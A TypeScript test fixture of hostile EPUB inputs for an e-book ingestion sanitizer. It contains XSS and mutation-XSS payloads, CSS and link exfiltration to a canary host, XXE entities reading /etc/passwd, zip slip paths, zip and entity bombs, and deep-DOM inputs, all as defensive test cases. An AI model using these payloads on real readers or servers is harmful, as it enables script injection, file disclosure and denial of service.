import type { IngestReason } from '../refusal.ts';
import { CONTAINER, type Draft, epubOf, epubWith, filesOf, hollowPng, page, zipOf } from './hostile.ts';

/** Runs if it ever runs; allowed only as words that are read. */
export const SCRIPT = 'window.pwned=1';
/** Fetched if it is ever fetched; allowed only in a link that the reader must confirm. */
export const REMOTE = 'canary.invalid';
/** How often a piece comes again in what never ends. */
const MANY = process.env.TEST_SET === 'everyday' ? 10_000 : 100_000;
const FAR = `https://${REMOTE}/x`;

export interface Case {
  name: string;
  bytes: () => Buffer;
  /** Why it is refused; without it the book is ingested and must come out clean. */
  refused?: IngestReason | IngestReason[];
}

const body = (name: string, text: string, more: Draft = {}): Case => ({
  name,
  bytes: () => epubOf({ ...more, body: `<p>Xin chào.</p>${text}` }),
});
const head = (name: string, text: string, more: Draft = {}): Case => ({
  name,
  bytes: () => epubOf({ ...more, head: `<title>x</title>${text}` }),
});
const raw = (name: string, text: string | Buffer, more: Draft = {}): Case => ({
  name,
  bytes: () => epubOf({ ...more, chapters: { 'one.xhtml': text } }),
});
const zip = (name: string, bytes: () => Buffer, ...refused: IngestReason[]): Case => ({
  name,
  bytes,
  refused,
});

const svg = (inside: string, attrs = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"${attrs}>${inside}</svg>`;
const XH = 'http://www.w3.org/1999/xhtml';
const doctype = (subset: string) => `<?xml version="1.0"?><!DOCTYPE html [${subset}]>`;
const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);

/** Chapters and styles: nothing here is a reason to refuse a book, everything has to be gone from it. */
const content: Case[] = [
  body('inline script', `<script>${SCRIPT}</script>`),
  body('external script', `<script src="${FAR}.js"></script><script src="evil.js"></script>`, {
    files: { 'OPS/evil.js': SCRIPT },
  }),
  head(
    'module script',
    `<script type="module">${SCRIPT}</script><link rel="modulepreload" href="${FAR}.js"/>`,
  ),
  body(
    'event handlers',
    `<img src="x.png" onerror="${SCRIPT}"/><p onclick="${SCRIPT}" ONMOUSEOVER="${SCRIPT}" oNLoad="${SCRIPT}">a</p><details ontoggle="${SCRIPT}" open="open">a</details>`,
  ),
  body(
    'handler behind a namespace',
    `<p xmlns:x="${XH}" x:onclick="${SCRIPT}" epub:onclick="${SCRIPT}">a</p>`,
  ),
  raw(
    'handler on body and html',
    `<html xmlns="${XH}" onload="${SCRIPT}"><head><title/></head><body onload="${SCRIPT}" onpageshow="${SCRIPT}"><p>a</p></body></html>`,
  ),
  body(
    'javascript links',
    [
      'javascript:',
      'JaVaScRiPt:',
      ' javascript:',
      'java&#10;script:',
      'java&#9;script:',
      '&#1;javascript:',
      'javascript&#58;',
      'vbscript:',
      'data:text/html,',
    ]
      .map(scheme => `<a href="${scheme}${SCRIPT}">a</a>`)
      .join(''),
  ),
  body(
    'javascript in other addresses',
    `<img src="javascript:${SCRIPT}"/><area href="javascript:${SCRIPT}"/>${svg(`<a xlink:href="javascript:${SCRIPT}"><text>a</text></a>`)}<form action="javascript:${SCRIPT}"><button formaction="javascript:${SCRIPT}">a</button></form>`,
  ),
  body(
    'frames and objects',
    `<iframe src="${FAR}"></iframe><iframe srcdoc="&lt;script&gt;${SCRIPT}&lt;/script&gt;"></iframe><object data="${FAR}"><embed src="${FAR}"/></object><applet code="x"></applet>`,
  ),
  raw(
    'frameset',
    `<html xmlns="${XH}"><head><title>x</title></head><frameset><frame src="${FAR}"/></frameset></html>`,
  ),
  head(
    'meta refresh and base',
    `<meta http-equiv="refresh" content="0;url=${FAR}"/><base href="https://${REMOTE}/"/><base target="_top"/>`,
  ),
  body(
    'meta refresh in body',
    `<meta http-equiv="refresh" content="0;url=${FAR}"/><base href="https://${REMOTE}/"/>`,
  ),
  body(
    'prefixed script',
    `<x:script xmlns:x="${XH}">${SCRIPT}</x:script><x:iframe xmlns:x="${XH}" src="${FAR}"/>`,
  ),
  body('upper-case script', `<SCRIPT>${SCRIPT}</SCRIPT><IMG SRC="x" ONERROR="${SCRIPT}"/>`),
  body(
    'null-namespace script',
    `<script xmlns="">${SCRIPT}</script><div xmlns=""><img src="x" onerror="${SCRIPT}"/></div>`,
  ),
  body(
    'foreign-namespace script',
    `<script xmlns="urn:x">${SCRIPT}</script><y:img xmlns:y="urn:y" src="x" onerror="${SCRIPT}"/>`,
  ),
  body(
    'mutation through CDATA',
    `<p><![CDATA[<img src=x onerror=${SCRIPT}>]]></p><style><![CDATA[</style><img src=x onerror=${SCRIPT}>]]></style>`,
  ),
  body('mutation through a processing instruction', `<?x ><img src=x onerror=${SCRIPT}>?><p>a</p>`),
  body('mutation through a comment', `<!--><img src=x onerror=${SCRIPT}>--><p>a</p>`),
  body(
    'mutation through rawtext',
    `<noscript><p title="&lt;/noscript>&lt;img src=x onerror=${SCRIPT}>">a</p></noscript><xmp><p title="&lt;/xmp>&lt;img src=x onerror=${SCRIPT}>"/></xmp><noembed><p id="&lt;/noembed>&lt;img src=x onerror=${SCRIPT}>"/></noembed><title><p id="&lt;/title>&lt;img src=x onerror=${SCRIPT}>"/></title><textarea><p id="&lt;/textarea>&lt;img src=x onerror=${SCRIPT}>"/></textarea>`,
  ),
  body(
    'mutation through MathML',
    `<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><table><mglyph><style><![CDATA[<!--</style><img title="--><img src=1 onerror=${SCRIPT}>">]]></style></mglyph></table></mtext><annotation-xml encoding="text/html"><script>${SCRIPT}</script></annotation-xml><mi href="javascript:${SCRIPT}" xlink:href="javascript:${SCRIPT}" xmlns:xlink="http://www.w3.org/1999/xlink">x</mi></math>`,
  ),
  body(
    'mutation through SVG',
    svg(
      `<title><style><img src="x" onerror="${SCRIPT}"/></style></title><desc><p title="&lt;/desc>&lt;img src=x onerror=${SCRIPT}>"/></desc><p><img xmlns="${XH}" src="x" onerror="${SCRIPT}"/></p><foreignObject><script xmlns="${XH}">${SCRIPT}</script></foreignObject>`,
    ),
  ),
  body(
    'nested tables and forms',
    `<form id="a"><div><form id="b"><input onfocus="${SCRIPT}" autofocus="autofocus"/></form></div></form><table><tr><td><table><img src="x" onerror="${SCRIPT}"/></table></td></tr></table>`,
  ),
  raw(
    'entities are not applied',
    `${doctype(`<!ENTITY e "&#60;script>${SCRIPT}&#60;/script>">`)}<html xmlns="${XH}"><head><title>x</title></head><body><p>&e;</p></body></html>`,
  ),
  raw('UTF-16', utf16(page(`<p>Xin chào.</p><script>${SCRIPT}</script>`).replace('UTF-8', 'UTF-16'))),
  raw(
    'UTF-7',
    `<?xml version="1.0" encoding="UTF-7"?><html xmlns="${XH}"><head><meta charset="utf-7"/><title>x</title></head><body><p>+ADw-script+AD4-</p></body></html>`,
  ),
  body(
    'scripted SVG inline',
    svg(
      `<script>${SCRIPT}</script><script href="${FAR}"/><rect width="9" height="9" onclick="${SCRIPT}"/><animate attributeName="href" values="javascript:${SCRIPT}"/><set attributeName="onmouseover" to="${SCRIPT}"/><a href="#"><animate attributeName="href" to="javascript:${SCRIPT}"/></a>`,
      ` onload="${SCRIPT}"`,
    ),
  ),
  {
    name: 'scripted SVG in the spine',
    bytes: () =>
      epubOf({
        chapters: {
          'one.svg': svg(
            `<script>${SCRIPT}</script><text>a</text><image href="${FAR}"/>`,
            ` onload="${SCRIPT}"`,
          ),
          'two.xhtml': page('<p>a</p>'),
        },
      }),
  },
  body('scripted SVG as picture', '<img src="p.svg"/>', {
    files: {
      'OPS/p.svg': svg(
        `<script>${SCRIPT}</script><image href="${FAR}"/><image href="file:///etc/passwd"/><rect width="9" height="9"/>`,
        ' width="9" height="9"',
      ),
    },
  }),
  body('SVG picture with entities', '<img src="p.svg"/>', {
    files: { 'OPS/p.svg': `<!DOCTYPE svg [<!ENTITY a "aaaa">]>${svg('<text>&a;</text>')}` },
  }),
  body(
    'remote pictures',
    `<img src="${FAR}.png"/><img src="//${REMOTE}/a.png"/><img srcset="${FAR}.png 2x" src="http://${REMOTE}/"/><picture><source srcset="${FAR}.png"/></picture><video src="${FAR}" poster="${FAR}"></video><audio src="${FAR}"></audio><input type="image" src="${FAR}"/><table background="${FAR}"><tr><td background="${FAR}">a</td></tr></table>${svg(`<image xlink:href="${FAR}"/><use href="${FAR}#a"/><rect fill="url(${FAR}#a)" width="1" height="1"/>`)}`,
  ),
  head(
    'remote styles',
    `<link rel="stylesheet" href="${FAR}.css"/><style>@import url(${FAR}.css); @import "${FAR}"; @font-face{font-family:x;src:url(${FAR}.woff)} p{background:url(${FAR}.png)}</style>`,
  ),
  head(
    'preloads',
    `<link rel="preload" as="image" href="${FAR}"/><link rel="prefetch" href="${FAR}"/><link rel="dns-prefetch" href="//${REMOTE}"/><link rel="preconnect" href="https://${REMOTE}"/><link rel="icon" href="${FAR}"/>`,
  ),
  body(
    'SMIL',
    svg(
      `<image><set attributeName="href" to="${FAR}"/></image><animateMotion path="M0 0"/><rect><animate attributeName="fill" values="url(${FAR})"/></rect>`,
    ),
  ),
  head(
    'CSS that reports what it sees',
    `<style>a[href^="x"]{background-image:url(${FAR})} p{background:u\\72l(${FAR})} p{background:image-set("${FAR}" 1x)} p{background:-webkit-image-set(url(${FAR}) 1x)} p{cursor:url(${FAR}),auto} p{--x:url(${FAR});background:var(--x)} p{list-style:url("${FAR}")} p{content:url(${FAR})} p{b\\61 ckground:url(${FAR})} @media all{p{background:URL(${FAR})}} @supports (a:b){p{background:url('//${REMOTE}')}}</style>`,
  ),
  body(
    'CSS in attributes',
    `<p style="background:url(${FAR});behavior:url(${FAR});-moz-binding:url(${FAR});width:expression(${SCRIPT});position:fixed;color:red">a</p>`,
  ),
  head(
    'CSS that ends its element',
    `<style>p{content:"&lt;/style>&lt;img src=x onerror=${SCRIPT}>"} p::before{content:"]]>&lt;script>"}</style>`,
  ),
  body(
    'forms',
    `<form action="${FAR}" method="post"><input name="password" type="password"/><button>Gửi</button><select><option>a</option></select></form><button form="x" formaction="${FAR}">a</button>`,
  ),
  body(
    'link targets and schemes',
    `<a href="${FAR}" target="_top" rel="opener" ping="${FAR}" download="x">a</a><a href="//${REMOTE}/">a</a><a href="file:///etc/passwd">a</a><a href="intent://x">a</a><a href="https://user:pass@${REMOTE}/">a</a><a href="blob:x">a</a><a href="/api/fm/logout">a</a><map name="m"><area href="${FAR}" target="_parent"/></map>`,
  ),
  body(
    'DOM clobbering',
    '<a id="body">a</a><img name="querySelector" id="cookie" src="x"/><p id="__proto__">a</p><form id="location" name="forms"></form><a name="document">a</a><p id="x]!/4:0,">a</p>',
  ),
  body(
    'a page that looks like ours',
    '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Đăng nhập</div><dialog open="open">Mật khẩu</dialog>',
  ),
  {
    name: 'markup in title, author, description',
    bytes: () =>
      epubOf({
        metadata: `<dc:title>&lt;img src=x onerror=${SCRIPT}&gt; Sách</dc:title><dc:creator>&lt;script&gt;${SCRIPT}&lt;/script&gt;</dc:creator><dc:description>&lt;p onclick="${SCRIPT}"&gt;Hay&lt;/p&gt;&lt;script&gt;${SCRIPT}&lt;/script&gt;</dc:description><dc:language>"&gt;&lt;script&gt;</dc:language>`,
      }),
  },
  {
    name: 'markup in the table of contents',
    bytes: () =>
      epubOf({
        nav: page(
          `<nav epub:type="toc"><ol><li><a href="javascript:${SCRIPT}"><img src="x" onerror="${SCRIPT}" alt="Một"/></a></li><li><a href="one.xhtml#x&quot;onclick=&quot;${SCRIPT}">Hai</a></li><li><a href="${FAR}">Ba</a></li><li><a href="../../../etc/passwd">Bốn</a></li></ol></nav>`,
        ),
      }),
  },
  {
    name: 'markup in the NCX',
    bytes: () =>
      epubOf({
        nav: page('<p/>'),
        files: {
          'OPS/toc.ncx': `<ncx xmlns="http://www.daisy.org/z3986/2005/ncx/"><navMap><navPoint><navLabel><text>&lt;script&gt;${SCRIPT}&lt;/script&gt;</text></navLabel><content src="javascript:${SCRIPT}"/></navPoint></navMap></ncx>`,
        },
      }),
  },
  body(
    'XInclude',
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
  ),
  {
    name: 'items that stand elsewhere',
    bytes: () =>
      epubOf({
        manifest:
          '<item id="url" href="file:///etc/passwd" media-type="application/xhtml+xml"/><item id="far" href="' +
          FAR +
          '" media-type="application/xhtml+xml"/>',
        spine: '<itemref idref="url"/><itemref idref="far"/><itemref idref="c1"/>',
      }),
  },
  body(
    'addresses of our own origin',
    '<img src="/api/fm/logout"/><img src="../../../../api/x"/><a href="../../../../admin">a</a><link rel="stylesheet" href="/api/x"/>',
  ),
  raw('deep DOM', page(`${'<div>'.repeat(1_000)}a${'</div>'.repeat(1_000)}`)),
  body(
    'copies of copies',
    svg(
      `${Array.from(
        { length: 30 },
        (_, level) => `<g id="l${level + 1}">${`<use href="#l${level}"/>`.repeat(10)}</g>`,
      ).join('')}<g id="l0"><rect width="1" height="1"/></g><use href="#l30"/>`,
    ),
  ),
  ...['(', '[', '{', '@media x{', 'a:not(', 'a{b:c(', '/*', '"', 'a{', '@import "x";', 'p>', '\\\\'].map(
    piece => head(`styles that never end: ${piece}`, `<style><![CDATA[${piece.repeat(MANY)}]]></style>`),
  ),
  raw('CDATA that never ends', `<html xmlns="${XH}"><body><p>a${'<![CDATA['.repeat(2 * MANY)}`),
  raw('a name that never ends', `<html xmlns="${XH}"><body><p>a<${'a'.repeat(30 * MANY)}`),
  raw(
    'broken XHTML',
    `<html xmlns="${XH}"><head><title>x</title></head><body><p>a<b>b<i>c</b>d</i><script>${SCRIPT}</script><p onclick=${SCRIPT}>e<img src=x onerror=${SCRIPT}><table><td>f<svg><style><img src=x onerror=${SCRIPT}></style></svg>`,
  ),
  raw('nothing like XHTML', `\u0000\u0001<<<>>>&&&<script>${SCRIPT}<!--`),
  raw('an empty chapter', ''),
  {
    name: 'a broken picture',
    bytes: () =>
      epubOf({
        body: '<img src="p.png" alt="Hình"/>',
        files: { 'OPS/p.png': hollowPng(40, 40), 'OPS/q.jpg': 'not a picture' },
      }),
  },
  {
    name: 'a font that is a page',
    bytes: () =>
      epubOf({
        head: '<title>x</title><style>@font-face{font-family:x;src:url(f.ttf)}p{font-family:x}</style>',
        files: { 'OPS/f.ttf': `<script>${SCRIPT}</script>`.repeat(20) },
      }),
  },
];

/** Zips and packages that are refused. */
const refused: Case[] = [
  ...['../../../../etc/passwd', '/etc/passwd', '..%2f..%2f..%2fetc/passwd'].map(
    (href): Case => ({
      name: `package path that climbs out: ${href}`,
      bytes: () =>
        epubOf({ manifest: `<item id="evil" href="${href}" media-type="application/xhtml+xml"/>` }),
      refused: 'bad_name',
    }),
  ),
  zip('zip slip', () => epubWith({ name: '../../evil.xhtml', body: 'x' }), 'bad_name'),
  zip('zip slip with backslashes', () => epubWith({ name: '..\\evil.xhtml', body: 'x' }), 'bad_name'),
  zip('absolute name', () => epubWith({ name: '/etc/passwd', body: 'x' }), 'bad_name'),
  zip('drive name', () => epubWith({ name: 'C:evil', body: 'x' }), 'bad_name'),
  zip('name with a null byte', () => epubWith({ name: 'a\0b', body: 'x' }), 'bad_name'),
  zip('name that reads backwards', () => epubWith({ name: 'OPS/\u202elmthx.exe', body: 'x' }), 'bad_name'),
  zip('endless name', () => epubWith({ name: `OPS/${'a'.repeat(300)}`, body: 'x' }), 'bad_name'),
  zip('deep folders', () => epubWith({ name: `${'a/'.repeat(40)}b`, body: 'x' }), 'bad_name'),
  zip('symbolic link', () => epubWith({ name: 'OPS/link', body: '/etc/passwd', mode: 0o120777 }), 'link'),
  zip('duplicate name', () => epubWith({ name: 'OPS/one.xhtml', body: 'x' }), 'duplicate'),
  zip('case-folded duplicate', () => epubWith({ name: 'ops/ONE.xhtml', body: 'x' }), 'duplicate'),
  zip(
    'Unicode duplicate',
    () => epubWith({ name: 'OPS/ế.txt', body: 'x' }, { name: 'OPS/e\u0302\u0301.txt', body: 'y' }),
    'duplicate',
  ),
  zip(
    'local name differs',
    () => epubWith({ name: 'OPS/a.txt', localName: 'OPS/b.txt', body: 'x' }),
    'ambiguous',
  ),
  zip('local size differs', () => epubWith({ name: 'OPS/a.txt', localSize: 999, body: 'x' }), 'ambiguous'),
  zip('two directories', () => epubOf({}, { gap: epubOf({}) }), 'ambiguous'),
  zip('second directory in the comment', () => epubOf({}, { comment: epubOf({}) }), 'ambiguous'),
  zip('prefix polyglot', () => epubOf({}, { prefix: Buffer.from('PK<html>') }), 'ambiguous'),
  zip('picture in front', () => epubOf({}, { prefix: hollowPng(1, 1) }), 'not_zip'),
  zip(
    'overlapping entries',
    () => epubWith({ name: 'OPS/a.bin', body: zeros(1) }, { name: 'OPS/a2.bin', body: zeros(1), sameAs: 5 }),
    'ambiguous',
  ),
  zip('bomb by size', () => epubWith({ name: 'OPS/a.bin', body: zeros(60) }), 'bomb'),
  zip(
    'bomb by text',
    () =>
      zipOf([
        ...filesOf({}),
        ...Array.from({ length: 6 }, (_, index) => ({
          name: `OPS/${index}.txt`,
          body: zeros(1),
          size: 63 * 1024 * 1024,
        })),
      ]),
    'bomb',
  ),
  zip(
    'bomb by count',
    () =>
      zipOf([
        ...filesOf({}),
        ...Array.from({ length: 5_001 }, (_, index) => ({ name: `OPS/${index}`, body: '', store: true })),
      ]),
    'too_many_files',
  ),
  zip('bomb with a lying header', () => epubWith({ name: 'OPS/a.bin', body: zeros(40), size: 1000 }), 'bomb'),
  zip('wrong CRC', () => epubWith({ name: 'OPS/a.txt', body: 'x', crc: 1 }), 'corrupt'),
  zip('not deflate', () => epubWith({ name: 'OPS/a.txt', body: 'x', store: true, method: 12 }), 'method'),
  zip('encrypted zip', () => epubWith({ name: 'OPS/a.txt', body: 'x', flags: 0x801 }), 'encrypted'),
  zip('zip64', () => epubOf({}, { count: 0xffff }), 'zip64', 'ambiguous'),
  zip('empty', () => Buffer.alloc(0), 'empty'),
  zip('not a zip', () => Buffer.from('xin chào, đây không phải sách'), 'not_zip'),
  zip('truncated', () => epubOf().subarray(0, -200), 'truncated', 'ambiguous'),
  zip(
    'no container, and more than one package',
    () =>
      zipOf([
        ...filesOf({}).filter(file => file.name !== 'META-INF/container.xml'),
        { name: 'OPS/other.opf', body: '<package/>' },
      ]),
    'no_package',
  ),
  zip(
    'DRM',
    () =>
      epubOf({
        files: {
          'META-INF/encryption.xml':
            '<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><EncryptedData xmlns="http://www.w3.org/2001/04/xmlenc#"><EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes256-cbc"/><CipherData><CipherReference URI="OPS/one.xhtml"/></CipherData></EncryptedData></encryption>',
        },
      }),
    'drm',
  ),
  zip(
    'DRM that calls itself a font',
    () =>
      epubOf({
        files: {
          'META-INF/encryption.xml':
            '<encryption><EncryptedData><EncryptionMethod Algorithm="http://www.idpf.org/2008/embedding"/><CipherData><CipherReference URI="OPS/one.xhtml"/></CipherData></EncryptedData></encryption>',
        },
      }),
    'drm',
  ),
  zip(
    'XXE in the container',
    () =>
      epubOf({
        container: CONTAINER.replace(
          '<container',
          '<!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]><container',
        ).replace('OPS/book.opf', '&x;'),
      }),
    'entities',
  ),
  zip(
    'XXE in the OPF',
    () =>
      epubOf({
        opf: '<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><package><metadata><title>&x;</title></metadata></package>',
      }),
    'entities',
  ),
  zip(
    'parameter entity',
    () => epubOf({ opf: `<!DOCTYPE p [<!ENTITY % x SYSTEM "${FAR}"> %x;]><package/>` }),
    'entities',
  ),
  zip(
    'entity bomb',
    () =>
      epubOf({
        opf: `<!DOCTYPE p [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, index) => `<!ENTITY ${'bcdefghij'[index]} "${`&${'abcdefghi'[index]};`.repeat(10)}">`).join('')}]><package><metadata><title>&j;</title></metadata></package>`,
      }),
    'entities',
  ),
  raw(
    'DTD defaults in a chapter',
    `${doctype(`<!ATTLIST p onclick CDATA "${SCRIPT}">`)}<html xmlns="${XH}"><head><title>x</title></head><body><p>a</p></body></html>`,
  ),
  zip(
    'unknown entity in the OPF',
    () => epubOf({ opf: '<package><metadata><title>&nothing;</title></metadata></package>' }),
    'no_package',
  ),
  zip('wide DOM', () => epubOf({ body: '<i/>'.repeat(250_000) }), 'too_complex'),
  zip(
    'formatting that multiplies',
    () => {
      const fonts = Array.from({ length: 250 }, (_, index) => `<font color="${index}">`).join('');
      return epubOf({ chapters: { 'one.xhtml': `<html><body><p>${fonts}${'<p>x'.repeat(100_000)}` } });
    },
    'too_complex',
  ),
  zip(
    'formatting that multiplies when read again',
    () => {
      const fonts = Array.from({ length: 200 }, (_, index) => `<font color="${index}">`).join('');
      return epubOf({ body: `<p>${fonts}${'<p>x</p>'.repeat(50_000)}${'</font>'.repeat(200)}</p>` });
    },
    'too_complex',
  ),
  zip(
    'a doctype full of declarations',
    () => epubOf({ chapters: { 'one.xhtml': `<!DOCTYPE html [${'<!ENTITY a "'.repeat(200_000)}]><html/>` } }),
    'entities',
    'too_complex',
  ),
  zip(
    'abyss',
    () => epubOf({ chapters: { 'one.xhtml': page(`${'<b>'.repeat(100_000)}a${'</b>'.repeat(100_000)}`) } }),
    'too_complex',
  ),
  zip(
    'well-formed tag with a million attributes',
    () => epubOf({ body: `<p ${Array.from({ length: 100_000 }, (_, index) => `a${index}=""`).join(' ')}/>` }),
    'too_complex',
  ),
  zip(
    'deep DOM without end',
    () => epubOf({ chapters: { 'one.xhtml': `<html><body>${'<div>'.repeat(300_000)}` } }),
    'too_complex',
  ),
  zip(
    'a tag with a million attributes',
    () =>
      epubOf({
        chapters: {
          'one.xhtml': `<html><body><p ${Array.from({ length: 200_000 }, (_, index) => `a${index}`).join(' ')}>`,
        },
      }),
    'too_complex',
  ),
  zip('huge chapter', () => epubOf({ body: 'a'.repeat(5 * 1024 * 1024) }), 'xml_too_large'),
  zip(
    'huge picture',
    () => epubOf({ body: '<img src="p.png"/>', files: { 'OPS/p.png': hollowPng(40_000, 40_000) } }),
    'image_too_large',
  ),
  zip(
    'endless title',
    () => epubOf({ metadata: `<dc:title>${'a'.repeat(3_000)}</dc:title>` }),
    'title_too_long',
  ),
  zip('endless spine', () => epubOf({ spine: '<itemref idref="c1"/>'.repeat(5_001) }), 'spine_too_long'),
  zip('no chapters', () => epubOf({ spine: '' }), 'no_spine'),
].map(one => (one.name === 'DTD defaults in a chapter' ? { ...one, refused: 'entities' as const } : one));

export const hostileCases: readonly Case[] = [...content, ...refused];
